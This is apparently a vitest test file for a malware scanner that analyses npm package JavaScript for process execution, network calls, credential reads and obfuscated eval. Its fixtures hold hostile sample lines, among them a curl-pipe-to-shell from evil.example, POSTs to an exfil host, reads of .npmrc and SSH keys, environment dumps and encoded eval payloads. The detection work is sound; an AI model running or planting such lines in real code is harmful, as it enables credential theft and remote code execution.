import { describe, expect, it } from 'vitest'
import { analyseJavaScript } from '../../src/npm/index.js'
import { OBFUSCATED } from './helpers.js'

const facts = (text: string, path = 'pkg/index.js') => analyseJavaScript(path, text)
const b64 = (s: string) => Buffer.from(s).toString('base64')
const hex = (s: string) => Buffer.from(s).toString('hex')

describe('process execution', () => {
  it('follows require aliases, destructuring, renames, node: prefix and imports', () => {
    const f = facts(`const cp = require('child_process')
cp.execSync('uname -a')
const { spawn: launch } = require('node:child_process')
launch(process.argv[2], [])
import('x')
`)
    expect(f.exec.map((e) => [e.api, e.line, e.literal])).toEqual([
      ['child_process.execSync', 2, true],
      ['child_process.spawn', 4, false],
    ])
    expect(f.exec[0]?.command).toBe('uname -a')
    const esm = facts(`import { execFile as run } from 'child_process'\nimport * as proc from 'node:child_process'\nrun('ls', ['-l'])\nproc.fork('./worker.js')\n`)
    expect(esm.exec.map((e) => `${e.api}@${e.line}:${e.literal}`)).toEqual(['child_process.execFile@3:true', 'child_process.fork@4:true'])
    expect(esm.requires).toContainEqual({ specifier: './worker.js', line: 4, kind: 'spawn' })
  })

  it('sees process.binding(spawn_sync) and promisified exec', () => {
    const f = facts(`const util = require('util')\nconst run = util.promisify(require('child_process').exec)\nrun(cmd)\nprocess.binding('spawn_sync').spawn(opts)\n`)
    expect(f.exec.map((e) => e.api)).toEqual(['child_process.exec', "process.binding('spawn_sync')"])
  })

  it('a curl command run through exec counts as network with its URL', () => {
    const f = facts(`require('child_process').exec('curl -s https://evil.example/p.sh | sh')`)
    expect(f.network[0]?.target).toBe('https://evil.example/p.sh')
  })
})

describe('network, credentials and the environment', () => {
  it('records network modules with literal hosts and URLs', () => {
    const f = facts(`const h = require('https')
h.request({ hostname: 'exfil.example.com', method: 'POST' })
fetch('https://api.example.org/collect')
new WebSocket(url)
const dns = require('dns'); dns.resolveTxt('x.attacker.test', () => {})
`)
    expect(f.network.map((n) => [n.api, n.target ?? null, n.line])).toEqual([
      ['https.request', 'exfil.example.com', 2],
      ['fetch', 'https://api.example.org/collect', 3],
      ['WebSocket', null, 4],
      ['dns.resolveTxt', 'x.attacker.test', 5],
    ])
  })

  it('finds credential files through path.join(os.homedir()) and variables', () => {
    const f = facts(`const fs = require('fs'), os = require('os'), path = require('path')
const rc = path.join(os.homedir(), '.npmrc')
const token = fs.readFileSync(rc, 'utf8')
const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')
`)
    expect(f.credentials.map((c) => [c.kind, c.line])).toEqual([
      ['file', 3],
      ['file', 4],
    ])
    expect(f.credentials[0]?.what).toContain('.npmrc')
  })

  it('secret variables and whole-environment serialisation, not ordinary variables', () => {
    const f = facts(`const a = process.env.NODE_ENV, b = process.env.CI
const t = process.env.NPM_TOKEN
const { GITHUB_TOKEN } = process.env
send(JSON.stringify(process.env))
const child = { ...process.env, FOO: '1' }
Object.assign({}, process.env)
`)
    expect(f.credentials.map((c) => `${c.kind}:${c.line}`)).toEqual(['env:2', 'env:3', 'whole-env:4'])
  })

  it('writes to the home directory are writes outside the package; writes inside are not', () => {
    const f = facts(`const fs = require('fs'); const os = require('os')
fs.writeFileSync(os.homedir() + '/.bashrc', 'x')
fs.writeFileSync(__dirname + '/out.json', 'y')
fs.appendFileSync('/etc/hosts', 'z')
`)
    expect(f.writes.map((w) => w.line)).toEqual([2, 4])
  })
})

describe('dynamic code', () => {
  const payload = `require('child_process').exec('id')`
  it.each([
    ['base64 via a renamed variable', `var zz = Buffer.from('${b64(payload)}', 'base64').toString(); eval(zz)`, 'base64'],
    ['hex into new Function', `const k = Buffer.from("${hex(payload)}", "hex"); new Function(k.toString())()`, 'hex'],
    ['char codes', `eval(String.fromCharCode(${[...payload].map((c) => c.charCodeAt(0)).join(',')}))`, 'char-codes'],
    ['a reversed string', `const r = ${JSON.stringify([...payload].reverse().join(''))}.split('').reverse().join(''); Function(r)()`, 'reversed-string'],
    ['atob in a user decoder function', `function dec(s) { return atob(s) }\nconst code = dec(blob)\neval(code)`, 'base64 (atob) via dec()'],
    ['an XOR loop over char codes', `let out = ''\nfor (let i = 0; i < data.length; i++) out += String.fromCharCode(data.charCodeAt(i) ^ 42)\nvm.runInThisContext(out)`, 'xor'],
    ['zlib inflate', `const zlib = require('zlib')\nconst src = zlib.inflateSync(Buffer.from(blob, 'base64')).toString()\nrequire('vm').runInNewContext(src)`, 'zlib (inflateSync)'],
    ['indirect (0, eval)', `(0, eval)(atob(p))`, 'base64 (atob)'],
  ])('%s is decoded', (_name, code, decoder) => {
    const f = facts(code)
    const d = f.dynamicCode.find((x) => x.argument === 'decoded')
    expect(d?.decoder).toBe(decoder)
  })

  it('decoded literals are analysed too: the hidden exec is reported at the eval line', () => {
    const f = facts(`// header\nvar x = 1\neval(Buffer.from('${b64(payload)}', 'base64').toString('utf8'))\n`)
    expect(f.dynamicCode[0]).toMatchObject({ api: 'eval', argument: 'decoded', decoder: 'base64', line: 3 })
    expect(f.exec[0]).toMatchObject({ api: 'child_process.exec', line: 3, command: 'id' })
    expect(f.exec[0]?.evidence).toContain('decoded: ')
  })

  it('a decoded module name in require is hidden, and still resolved', () => {
    const f = facts(`const m = require(atob('${b64('child_process')}'))\nm.execSync('whoami')`)
    expect(f.dynamicCode[0]).toMatchObject({ api: 'require', argument: 'decoded' })
    expect(f.exec[0]).toMatchObject({ api: 'child_process.execSync', command: 'whoami' })
  })

  it('leaves the global-object idiom, literal code and plugin loaders alone', () => {
    const f = facts(`var g = new Function('return this')()
var h = Function('return this')()
var add = new Function('a', 'b', 'return a + b')
eval('1 + 1')
const plugin = require(path.join(__dirname, 'plugins', name))
`)
    expect(f.dynamicCode.map((d) => d.argument)).toEqual(['plugin-path'])
  })

  it('a parameter shadows an outer decoded variable of the same name', () => {
    const f = facts(`var e = atob(blob)\nfunction run(e) { return eval(e) }\n`)
    expect(f.dynamicCode).toEqual([expect.objectContaining({ api: 'eval', argument: 'dynamic', line: 2 })])
  })
})

describe('obfuscation and structure', () => {
  it('recognises javascript-obfuscator output', () => {
    const f = facts(OBFUSCATED, 'pkg/setup.js')
    expect(f.obfuscation.signature).toMatch(/string array of 20 literals .* push\(shift\(\)\)/)
    expect(f.obfuscation.rotation?.line).toBe(2)
    expect(f.obfuscation.hexIdentifiers).toBeGreaterThan(20)
    // the lookups are evaluated through the rotated array: the module name is known, and hidden
    expect(f.dynamicCode.some((d) => d.api === 'require' && d.argument === 'decoded' && d.decoder === 'rotated string array')).toBe(true)
  })

  it('a big list of words is not an obfuscator without the rotation', () => {
    const words = Array.from({ length: 60 }, (_, i) => `'tag${i}'`).join(',')
    const f = facts(`module.exports = [${words}]\nconst q = []; q.push(1)\nmodule.exports.run = (code) => eval(code)`)
    expect(f.obfuscation.stringArray?.size).toBe(60)
    expect(f.obfuscation.signature).toBeUndefined()
  })

  it('knows build output and measures minification', () => {
    const line = `!function(e){var t={};${'function n(r){return t[r]};'.repeat(400)}}([]);`
    expect(facts(line, 'node_modules/x/dist/x.min.js').obfuscation).toMatchObject({ minified: true, buildOutput: true })
    expect(facts(line, 'node_modules/x/index.js').obfuscation).toMatchObject({ minified: true, buildOutput: false })
  })

  it('collects relative requires and imports for the package judge', () => {
    const f = facts(`import a from './a.js'\nexport * from '../b'\nconst c = require('./c')\nrequire('lodash')\nrequire(path.join(__dirname, 'd.js'))\n`)
    expect(f.requires.map((r) => `${r.specifier}@${r.line}`)).toEqual(['./a.js@1', '../b@2', './c@3', './d.js@5'])
  })

  it('cuts evidence on a long minified line around the match', () => {
    const pad = 'var a=1;'.repeat(2000)
    const f = facts(`${pad}eval(atob(x));${pad}`)
    const ev = f.dynamicCode[0]?.evidence ?? ''
    expect(ev.length).toBeLessThanOrEqual(170)
    expect(ev).toContain('eval(atob(x))')
    expect(ev.startsWith('…')).toBe(true)
  })

  it('falls back to tokens on a syntax error, recording it', () => {
    const f = facts(`const x = <div>{a}</div>\nconst cp = require('child_process'); cp.execSync(cmd)\neval(atob(blob))\nrequire('./helper')\n`, 'pkg/view.jsx.js')
    expect(f.mode).toBe('tokens')
    expect(f.parseError).toMatch(/Unexpected token/)
    expect(f.exec[0]?.line).toBe(2)
    expect(f.dynamicCode[0]).toMatchObject({ api: 'eval', argument: 'decoded', line: 3 })
    expect(f.requires[0]?.specifier).toBe('./helper')
  })
})
